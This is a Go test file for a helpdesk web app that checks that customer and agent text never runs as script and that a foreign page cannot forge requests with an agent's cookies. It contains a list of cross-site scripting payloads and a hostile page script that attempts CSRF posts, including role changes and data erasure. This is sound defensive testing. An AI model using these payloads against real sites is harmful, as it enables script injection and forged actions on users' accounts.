package browser

import (
	"bytes"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"net/http"
	"net/http/cookiejar"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"helpwright/desk"
)

// whole lets every payload have a ticket of its own, as for a release.
var whole = flag.Bool("whole", false, "every hostile text in a ticket of its own, and not two of them and all in one")

// hostile are texts that run a script, load something, or break out of where they stand,
// wherever nobody minds. FOREIGN is an address of another host.
var hostile = []string{
	`<script>alert(1)</script>`, `<SCRIPT SRC=FOREIGN/x.js></SCRIPT>`, `<img src=x onerror=alert(1)>`, `<img src="FOREIGN/pixel.png">`, `<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg/onload=alert(1)//`,
	`<iframe src="javascript:alert(1)">`, `<iframe srcdoc="<script>parent.alert(1)</script>">`, `<iframe src="FOREIGN/">`, `<object data="FOREIGN/x.swf">`, `<embed src="FOREIGN/x">`, `<link rel=stylesheet href="FOREIGN/x.css">`, `<style>@import "FOREIGN/x.css"; *{background:url(FOREIGN/y.png)}</style>`,
	`<base href="FOREIGN/">`, `<meta http-equiv=refresh content="0;url=FOREIGN/">`, `<form action="FOREIGN/"><input name=a autofocus onfocus=alert(1)>`, `<body onload=alert(1)>`, `<details open ontoggle=alert(1)>x</details>`, `<video src=x onerror=alert(1)></video>`, `<audio src="FOREIGN/a.mp3" autoplay></audio>`, `<input autofocus onfocus=alert(1)>`, `<marquee onstart=alert(1)>x</marquee>`, `<a href="javascript:alert(1)" autofocus>x</a>`,
	`"><script>alert(1)</script>`, `'><img src=x onerror=alert(1)>`, `" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="`, `' autofocus onfocus='alert(1)`, "` onerror=alert(1) `", `</textarea><script>alert(1)</script>`, `</title><script>alert(1)</script>`, `</script><script>alert(1)</script>`, `</style><img src=x onerror=alert(1)>`, `--><img src=x onerror=alert(1)>`, `]]><img src=x onerror=alert(1)>`,
	`[x](javascript:alert(1))`, `[x](JaVaScRiPt:alert(1))`, `[x](javascript&colon;alert(1))`, `[x](java` + "\t" + `script:alert(1))`, `[x](data:text/html,<script>alert(1)</script>)`, `[x](vbscript:alert(1))`, `![x](FOREIGN/pixel.png)`, `![x](x "onerror=alert(1)")`, `![x" onerror="alert(1)](x)`, `[x](x "a" onmouseover="alert(1)")`, `<javascript:alert(1)>`, `[x]: javascript:alert(1)` + "\n\n[x]", "```\"onload=alert(1)\nx\n```", "# x {onclick=alert(1)}", `| <img src=x onerror=alert(1)> |` + "\n|---|\n| x |",
	`&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;script&#62;alert(1)&#60;/script&#62;`, `\u003cscript\u003ealert(1)\u003c/script\u003e`, `{{constructor.constructor('alert(1)')()}}`, `${alert(1)}`, `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `＜script＞alert(1)＜/script＞`,
}

// A villain speaks to the desk as programs do.
type villain struct {
	t       *testing.T
	at      string
	foreign string
	client  *http.Client
}

func (v *villain) post(path, kind string, body []byte) (int, []byte) {
	v.t.Helper()
	answer, err := v.client.Post(v.at+path, kind, bytes.NewReader(body))
	if err != nil {
		v.t.Fatal(err)
	}
	defer answer.Body.Close()
	text, err := io.ReadAll(answer.Body)
	if err != nil {
		v.t.Fatal(err)
	}
	return answer.StatusCode, text
}

func (v *villain) json(path string, value any) (int, []byte) {
	v.t.Helper()
	body, err := json.Marshal(value)
	if err != nil {
		v.t.Fatal(err)
	}
	return v.post(path, "application/json", body)
}

// first is a text of one line and a bounded length, as many fields want it.
func first(text string) string {
	text, _, _ = strings.Cut(strings.ReplaceAll(text, "\t", ""), "\n")
	return text[:min(len(text), 180)]
}

// ticket writes a text into every field that a customer has, and returns the ticket's id.
func (v *villain) ticket(n int, text string) string {
	v.t.Helper()
	now := time.Now().UnixMilli()
	line := first(text)
	code, answer := v.json("/api/v1/tickets", map[string]any{
		"message": "before " + text + "\n\nafter", "subject": line, "name": line[:min(len(line), 90)], "email": fmt.Sprintf("villain%d@example.com", n), "locale": "en",
		"packet": map[string]any{
			"searches": []any{map[string]any{"query": line, "time": now}},
			"articles": []any{map[string]any{"id": "x", "title": line, "path": "/x/", "locale": "en", "revision": "r", "time": now}},
			"trails": []any{map[string]any{"article": "build-stops", "revision": "r", "locale": "en", "title": line, "path": "/en/help/build-stops/", "at": "#x", "time": now,
				"answers": []any{map[string]any{"step": "x", "title": line, "answer": line, "to": "/" + url.PathEscape(line)}}}},
			"page": "/" + url.PathEscape(line), "browser": map[string]any{"agent": line, "time_zone": line, "languages": []string{line}},
		},
	})
	var opened struct{ ID string }
	if err := json.Unmarshal(answer, &opened); code != 201 || err != nil {
		v.t.Fatalf("%q is answered %d %s", text, code, answer)
	}
	return opened.ID
}

// guarded counts what runs, in the page and in frames in it.
const guarded = `(() => { for (const name of ["alert", "confirm", "prompt"]) { window[name] = () => { top.ran = (top.ran ?? 0) + 1 } } })()`

// What customers and agents write is words, on every page that shows it: nothing of it
// runs and nothing is fetched from anywhere, also when no policy forbids it.
func TestHostileWords(t *testing.T) {
	t.Parallel()
	var fetched atomic.Int32
	elsewhere := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fetched.Add(1)
		t.Errorf("%s was fetched from another host", r.URL)
		http.NotFound(w, r)
	}))
	t.Cleanup(elsewhere.Close)
	h := serveDesk(t)
	jar, err := cookiejar.New(nil)
	if err != nil {
		t.Fatal(err)
	}
	guest := &villain{t, h.url, elsewhere.URL, http.DefaultClient}
	agent := &villain{t, h.url, elsewhere.URL, &http.Client{Jar: jar}}
	if code, _ := agent.post("/desk/sign-in", "application/x-www-form-urlencoded", []byte(url.Values{"email": {desk.SeededEmail}, "password": {h.password}}.Encode())); code != 200 {
		t.Fatalf("the agent is answered %d", code)
	}
	texts := []string{strings.ReplaceAll(strings.Join(hostile, "\n\n"), "FOREIGN", elsewhere.URL)}
	for i, text := range hostile {
		if *whole || i%30 == 2 {
			texts = append(texts, strings.ReplaceAll(text, "FOREIGN", elsewhere.URL))
		}
	}
	colleague := h.agentUnguarded()
	customer := openUnguarded(h)
	customer.visit("/en/contact/") // what counts scripts stands in pages that are opened, not in the one that a tab begins with
	if seen := customer.ask(`(alert(1), String(window.ran))`); seen != "1" {
		t.Fatalf("a script that runs is not seen: %s", seen)
	}
	views := 0
	look := func(b *tab, path string) {
		t.Helper()
		views++
		b.visit(path)
		if ran := b.ask(`String(window.ran ?? 0)`); ran != "0" {
			t.Errorf("%s: %s scripts ran", path, ran)
		}
		if at := b.ask(`location.origin + location.pathname`); !strings.HasPrefix(at, h.url) {
			t.Errorf("%s leads to %s", path, at)
		}
		if found := b.ask(`[...document.querySelectorAll("main *")].filter((e) => [...e.attributes].some((a) => a.name.startsWith("on") || a.name === "style" || ["href", "src", "action", "formaction", "data", "srcdoc"].includes(a.name) && /^\s*(javascript|data|vbscript):/i.test(a.value))).map((e) => e.outerHTML).join("\n")`); found != "" {
			t.Errorf("%s has %.300s", path, found)
		}
	}
	for n, text := range texts {
		id := guest.ticket(n, text)
		for path, in := range map[string]any{
			"/messages": map[string]string{"message": text}, "/escalate": map[string]string{"reason": first(text)},
		} {
			if code, answer := agent.json("/api/v1/tickets/"+id+path, in); code >= 300 {
				t.Fatalf("%s: %d %s", path, code, answer)
			}
		}
		agent.json("/api/v1/desk/tickets/"+id+"/notes", map[string]string{"message": text})
		agent.json("/api/v1/desk/tickets/"+id+"/change", map[string]any{"add_tags": []string{first(text)}})
		look(colleague, "/desk/tickets/"+id)
		if shown := colleague.ask(`document.querySelector("main").innerText.includes("before")`); shown != "true" {
			t.Errorf("the words %q are not shown", text)
		}
		customer.visit(h.mailed())
		customer.click(`main form .button`)
		customer.want(`location.pathname`, "/en/tickets/"+id+"/", "the customer is in")
		look(customer, "/en/tickets/"+id+"/")
	}
	line := first(strings.ReplaceAll(hostile[2], "FOREIGN", elsewhere.URL))
	agent.json("/api/v1/desk/views", map[string]any{"name": line, "filter": map[string]string{"words": line}})
	agent.json("/api/v1/desk/macros", map[string]any{"name": line, "actions": map[string]any{"reply": line}})
	guest.json("/api/v1/callbacks", map[string]any{"locale": "en", "email": "villain@example.com", "name": line, "phone": "+49 30 123456", "message": line})
	for _, path := range []string{"/desk/", "/desk/?words=" + url.QueryEscape(line), "/desk/calls", "/desk/macros/", "/desk/outbox", "/desk/mail", "/desk/people/", "/desk/account", "/desk/sign-in?next=" + url.QueryEscape(line)} {
		look(colleague, path)
	}
	for i, letter := range letterAddress.FindAllString(h.get("/desk/outbox"), -1) {
		if i%5 == 0 {
			look(colleague, letter)
		}
	}
	for _, path := range []string{"/en/tickets/", "/en/tickets/?words=" + url.QueryEscape(line), "/en/tickets/open?code=" + url.QueryEscape(line), "/en/tickets/enter?challenge=" + url.QueryEscape(line), "/en/tickets/rate?code=" + url.QueryEscape(line)} {
		look(customer, path)
	}
	t.Logf("%d texts, %d views without a policy, %d fetched from elsewhere", len(texts), views, fetched.Load())
}

// agentUnguarded signs an agent in in a tab in which no policy holds.
func (h *deskHost) agentUnguarded() *tab {
	h.t.Helper()
	b := openUnguarded(h)
	b.visit("/desk/sign-in")
	b.fill("#email", desk.SeededEmail)
	b.fill("#password", h.password)
	b.click(`main form .button.main`)
	b.want(`location.pathname`, "/desk/", "the agent is in")
	return b
}

func openUnguarded(h *deskHost) *tab {
	b := openAt(h.t, h.host, withoutPolicy(), before(guarded))
	b.missing = true
	return b
}

// A page of another site tries everything that a browser lets it send, with the cookies
// of an agent in the browser, and nothing changes.
func TestForeignPage(t *testing.T) {
	t.Parallel()
	h := serveDesk(t)
	guest := &villain{t, h.url, "", http.DefaultClient}
	id := guest.ticket(1, "words")
	agent := h.agent()
	agent.missing, agent.foreign = true, true
	before := agent.ask(`(async () => await (await fetch("/api/v1/desk/tickets/` + id + `")).text())()`)
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, `<!doctype html><title>evil</title><script>
const at = %q, id = %q;
const paths = ["api/v1/tickets/" + id + "/messages", "api/v1/tickets/" + id + "/close", "api/v1/desk/tickets/" + id + "/claim", "api/v1/desk/tickets/" + id + "/notes", "desk/account", "desk/people/", "desk/sign-out", "api/v1/privacy/erase", "desk/tickets/" + id + "/claim"];
const bodies = [JSON.stringify({message: "evil"}), "message=evil&name=evil&email=evil@example.com&role=admin"];
(async () => {
  let tries = 0;
  for (const path of paths) for (const body of bodies) for (const type of ["application/json", "text/plain", "application/x-www-form-urlencoded"]) for (const mode of ["cors", "no-cors"]) {
    tries++;
    await fetch(at + "/" + path, {method: "POST", mode, credentials: "include", headers: mode === "cors" || type !== "application/json" ? {"content-type": type} : {}, body}).catch(() => {});
    navigator.sendBeacon(at + "/" + path, new Blob([body], {type}));
  }
  for (const path of paths) {
    const frame = document.body.appendChild(Object.assign(document.createElement("iframe"), {name: "f" + tries++}));
    const form = document.body.appendChild(Object.assign(document.createElement("form"), {method: "post", action: at + "/" + path, target: frame.name}));
    for (const [name, value] of new URLSearchParams(bodies[1])) form.append(Object.assign(document.createElement("input"), {type: "hidden", name, value}));
    form.submit();
  }
  let read = "nothing";
  await fetch(at + "/api/v1/desk/tickets/" + id, {credentials: "include"}).then(async (a) => { read = await a.text() }).catch(() => {});
  setTimeout(() => { document.title = "done " + tries + " " + read }, 500);
})()</script><body>`, h.url, id)
	}))
	t.Cleanup(evil.Close)
	// Another name of this computer is another site.
	agent.visitAbroad(strings.Replace(evil.URL, "127.0.0.1", "localhost", 1))
	title := ""
	for range 100 {
		if title = agent.ask(`document.title`); strings.HasPrefix(title, "done") {
			break
		}
		time.Sleep(100 * time.Millisecond)
	}
	if !strings.HasSuffix(title, " nothing") {
		t.Fatalf("the page says %q", title)
	}
	agent.visit("/desk/")
	agent.want(`location.pathname`, "/desk/", "the agent is still in")
	if after := agent.ask(`(async () => await (await fetch("/api/v1/desk/tickets/` + id + `")).text())()`); after != before || strings.Contains(after, "evil") {
		t.Errorf("before %.300s\nafter %.300s", before, after)
	}
	agent.visit("/desk/people/")
	agent.want(`document.body.innerText.includes("evil")`, "false", "nobody was invited")
	t.Log(title)
}

// visitAbroad opens a page of another site.
func (b *tab) visitAbroad(address string) {
	b.t.Helper()
	if err := chromedp.Do(b.ctx, chromedp.Navigate(address)); err != nil {
		b.t.Fatal(err)
	}
}
